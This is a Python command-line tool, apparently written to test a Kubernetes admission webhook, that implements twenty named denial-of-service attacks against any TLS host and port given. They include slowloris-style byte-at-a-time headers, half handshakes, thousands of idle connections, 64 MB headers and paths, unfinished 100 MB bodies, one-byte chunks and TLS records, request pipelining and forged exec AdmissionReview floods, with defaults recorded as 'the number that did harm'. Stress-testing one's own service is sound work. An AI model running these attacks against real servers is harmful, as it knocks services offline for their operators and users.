"""What a pod can do to a server that it reaches: run as a program, from anywhere with Python.

    python attacks.py idle-tls HOST PORT --number 2000

It prints `held` once all is in place, holds it until its standard input ends, and then `done`. A server that ends its
connections is no failure: they are counted (`ended`).
"""

import argparse
import itertools
import json
import resource
import socket
import ssl
import sys
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress

EXEC_PATH = "/mutate-v1-exec-metadata"
_THREADS = 8
_PIECE = 1 << 16


class Attacker:
    """Connections to one server, from some addresses, and how many of them it has ended."""

    def __init__(self, host: str, port: int, *sources: str) -> None:
        self._address, self._sources = (host, port), itertools.cycle(sources or [""])
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.context.check_hostname = False
        self.context.verify_mode = ssl.CERT_NONE
        self.held: list[socket.socket] = []
        self.ended = 0

    def tcp(self) -> socket.socket:
        """A connection; nothing is sent."""
        return socket.create_connection(self._address, timeout=20, source_address=(next(self._sources), 0))

    def tls(self) -> socket.socket:
        """A connection after its handshake."""
        raw = self.tcp()
        try:
            return self.context.wrap_socket(raw)
        except BaseException:
            raw.close()
            raise

    def each(self, number: int, do: Callable[[int], object]) -> None:
        """Do this so many times, some at once."""

        def once(index: int) -> None:
            try:
                do(index)
            except OSError:
                self.ended += 1

        with ThreadPoolExecutor(_THREADS) as threads:
            for _ in threads.map(once, range(number)):
                pass

    def keep(self, connection: socket.socket) -> socket.socket:
        self.held.append(connection)
        return connection


def silent_tcp(attacker: Attacker, number: int) -> None:
    """Connections on which nothing is ever sent."""
    attacker.each(number, lambda _: attacker.keep(attacker.tcp()))


def half_hello(attacker: Attacker, number: int) -> None:
    """Connections with the first byte of a handshake."""
    attacker.each(number, lambda _: attacker.keep(attacker.tcp()).sendall(b"\x16"))


def idle_tls(attacker: Attacker, number: int) -> None:
    """Connections on which nothing is sent after the handshake."""
    attacker.each(number, lambda _: attacker.keep(attacker.tls()))


def handshakes(attacker: Attacker, number: int) -> None:
    """Handshakes, as many as both sides have time for."""
    attacker.each(number, lambda _: attacker.tls().close())


def sessions(attacker: Attacker, number: int) -> None:
    """Handshakes that ask the server to remember a session (TLS 1.2 without tickets)."""
    attacker.context.maximum_version = ssl.TLSVersion.TLSv1_2
    attacker.context.options |= ssl.OP_NO_TICKET
    attacker.each(number, lambda _: attacker.tls().close())


def slow_headers(attacker: Attacker, number: int) -> None:
    """Requests whose headers come a byte at a time."""

    def begin(_: int) -> None:
        attacker.keep(attacker.tls()).sendall(f"POST {EXEC_PATH} HTTP/1.1\r\nX: ".encode())

    attacker.each(number, begin)
    for _ in range(5):
        time.sleep(0.2)
        for connection in attacker.held:
            with suppress(OSError):
                connection.sendall(b"y")


def many_headers(attacker: Attacker, number: int) -> None:
    """Requests with 64 MB of small headers."""
    line = b"".join(b"x-%d: yyyyyyyyyyyyyyyyyyyyyyyy\r\n" % index for index in range(2000))
    _endless(attacker, number, b"", line, 64_000_000)


def one_header(attacker: Attacker, number: int) -> None:
    """Requests with one header of 64 MB."""
    _endless(attacker, number, b"x: ", b"y" * _PIECE, 64_000_000)


def long_path(attacker: Attacker, number: int) -> None:
    """Requests for a path of 64 MB."""

    def send(_: int) -> None:
        connection = attacker.keep(attacker.tls())
        connection.sendall(b"POST /")
        _send(connection, b"y" * _PIECE, 64_000_000)

    attacker.each(number, send)


def trailers(attacker: Attacker, number: int) -> None:
    """Requests with 64 MB of headers behind their bodies."""
    line = b"".join(b"x-%d: yyyyyyyyyyyyyyyyyyyyyyyy\r\n" % index for index in range(2000))
    _endless(attacker, number, b"Transfer-Encoding: chunked\r\n\r\n1\r\n{\r\n0\r\n", line, 64_000_000)


def unfinished_bodies(attacker: Attacker, number: int) -> None:
    """Bodies of 8 MB of which the last bytes never come."""

    def send(_: int) -> None:
        connection = attacker.keep(attacker.tls())
        connection.sendall(_head(8_000_000))
        _send(connection, b" " * _PIECE, 7_900_000)

    attacker.each(number, send)


def big_bodies(attacker: Attacker, number: int) -> None:
    """Bodies of 8 MB that are no reviews, one after the other on each connection's own."""
    _blank_bodies(attacker, number, 8_000_000)


def many_words(attacker: Attacker, number: int) -> None:
    """Requests for commands of two million words."""
    body = _exec("0" * 8 + "-0000" * 3 + "-" + "0" * 12, ["@"]).replace(b'["@"]', b'["x"' + b',"y"' * 1_999_000 + b"]")

    def send(_: int) -> None:
        with attacker.tls() as connection:
            connection.sendall(_head(len(body)) + body)
            connection.recv(_PIECE)

    attacker.each(number, send)


def endless_bodies(attacker: Attacker, number: int) -> None:
    """Bodies of 100 MB."""
    _blank_bodies(attacker, number, 100_000_000)


def small_chunks(attacker: Attacker, number: int) -> None:
    """Bodies in chunks of one byte."""
    _endless(attacker, number, b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\n{\r\n" * 2000, 8_000_000)


def small_records(attacker: Attacker, number: int) -> None:
    """Bodies of which each byte comes in a TLS record of its own."""

    def send(_: int) -> None:
        connection = attacker.keep(attacker.tls())
        connection.sendall(_head(8_000_000))
        for _byte in range(100_000):
            connection.sendall(b" ")

    attacker.each(number, send)


def pipelined(attacker: Attacker, number: int) -> None:
    """Connections with thousands of requests sent at once."""

    def send(_: int) -> None:
        connection = attacker.keep(attacker.tls())
        connection.sendall(b"GET /readyz HTTP/1.1\r\nHost: x\r\n\r\n" * 20_000)

    attacker.each(number, send)


def unread_answers(attacker: Attacker, number: int) -> None:
    """Execs with a command of 500 kB, whose answers, as large, are not taken."""

    def send(index: int) -> None:
        connection = attacker.tcp()
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection = attacker.keep(attacker.context.wrap_socket(connection))
        for turn in range(8):
            review = _exec(f"{index:08x}-{turn:04x}-4000-8000-000000000000", ["x" * 500_000])
            connection.sendall(_head(len(review)) + review)
            time.sleep(0.05)

    attacker.each(number, send)


def busy(attacker: Attacker, number: int) -> None:
    """Kept connections that ask for one review after the other, for some seconds."""
    until = time.monotonic() + 4
    review = _exec("00000000-0000-4000-8000-000000000000", ["sh"])

    def ask() -> None:
        with suppress(OSError):
            connection = attacker.keep(attacker.tls())
            while time.monotonic() < until:
                connection.sendall(_head(len(review)) + review)
                while not connection.recv(_PIECE).endswith(b"}"):
                    pass

    threads = [threading.Thread(target=ask) for _ in range(number)]
    for each in threads:
        each.start()
    for each in threads:
        each.join()


def everything(attacker: Attacker, number: int) -> None:
    """Half handshakes, unfinished bodies and answers that are not taken, at once."""
    half_hello(attacker, number)
    unfinished_bodies(attacker, 24)
    unread_answers(attacker, 64)
    half_hello(attacker, number)


ATTACKS: dict[str, tuple[Callable[[Attacker, int], None], int]] = {
    "silent-tcp": (silent_tcp, 2000),
    "half-hello": (half_hello, 2000),
    "idle-tls": (idle_tls, 2000),
    "handshakes": (handshakes, 2000),
    "sessions": (sessions, 2000),
    "slow-headers": (slow_headers, 500),
    "many-headers": (many_headers, 4),
    "one-header": (one_header, 4),
    "long-path": (long_path, 4),
    "trailers": (trailers, 4),
    "unfinished-bodies": (unfinished_bodies, 24),
    "big-bodies": (big_bodies, 24),
    "many-words": (many_words, 16),
    "endless-bodies": (endless_bodies, 4),
    "small-chunks": (small_chunks, 8),
    "small-records": (small_records, 8),
    "pipelined": (pipelined, 64),
    "unread-answers": (unread_answers, 64),
    "busy": (busy, 100),
    "everything": (everything, 500),
}
"""By name, with the number that did harm, or would."""


def _head(length: int) -> bytes:
    return f"POST {EXEC_PATH} HTTP/1.1\r\nHost: x\r\nContent-Length: {length}\r\n\r\n".encode()


def _exec(uid: str, command: list[str]) -> bytes:
    request = {
        "uid": uid,
        "operation": "CONNECT",
        "kind": {"group": "", "version": "v1", "kind": "PodExecOptions"},
        "resource": {"group": "", "version": "v1", "resource": "pods"},
        "name": "web",
        "namespace": "default",
        "subResource": "exec",
        "userInfo": {"username": "mallory"},
        "object": {
            "kind": "PodExecOptions",
            "apiVersion": "v1",
            "stdout": True,
            "container": "web",
            "command": command,
        },
    }
    return json.dumps({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": request}).encode()


def _blank_bodies(attacker: Attacker, number: int, size: int) -> None:
    def send(_: int) -> None:
        with attacker.tls() as connection:
            connection.sendall(_head(size))
            _send(connection, b" " * _PIECE, size)
            connection.recv(_PIECE)

    attacker.each(number, send)


def _endless(attacker: Attacker, number: int, head: bytes, piece: bytes, total: int) -> None:
    def send(_: int) -> None:
        connection = attacker.keep(attacker.tls())
        connection.sendall(f"POST {EXEC_PATH} HTTP/1.1\r\nHost: x\r\n".encode() + head)
        _send(connection, piece, total)

    attacker.each(number, send)


def _send(connection: socket.socket, piece: bytes, total: int) -> None:
    for part in _parts(piece, total):
        connection.sendall(part)


def _parts(piece: bytes, total: int) -> Iterator[bytes]:
    for _ in range(total // len(piece)):
        yield piece
    yield piece[: total % len(piece)]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--number", type=int, help="of connections; the default is what did harm, or would")
    parser.add_argument("--source", action="append", default=[], help="address to come from, may be repeated")
    options = parser.parse_args()
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    attack, number = ATTACKS[options.attack]
    attacker = Attacker(options.host, options.port, *options.source)
    attack(attacker, options.number or number)
    print("held", flush=True)
    sys.stdin.read()
    for each in attacker.held:
        each.close()
    print(f"done, {attacker.ended} ended by the server", flush=True)


if __name__ == "__main__":
    main()
